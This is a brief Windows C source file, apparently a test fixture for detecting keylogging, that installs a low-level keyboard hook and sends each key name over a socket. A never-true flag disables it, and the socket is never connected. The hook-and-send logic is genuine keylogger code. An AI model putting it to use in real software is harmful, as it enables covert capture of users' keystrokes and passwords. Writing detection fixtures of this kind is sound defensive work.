/* A hook turns keys into text and sends it.
 * expect: native-keys-written-down
 * flags: -O2 -mwindows -lws2_32
 * for: windows
 */
#include <winsock2.h>
#include <windows.h>
#include <stdio.h>

/* Never true: the code is compiled and cannot run. */
static volatile int never;

static SOCKET out;

static LRESULT CALLBACK pressed(int code, WPARAM kind, LPARAM what) {
    char name[64];
    if (never && kind == WM_KEYDOWN) {
        GetKeyNameTextA(((KBDLLHOOKSTRUCT *)what)->scanCode << 16, name, sizeof name);
        send(out, name, strlen(name), 0);
    }
    return CallNextHookEx(0, code, kind, what);
}

static int act(void) { return SetWindowsHookExA(WH_KEYBOARD_LL, pressed, 0, 0) != 0; }

int main(void) { return never ? act() : 0; }
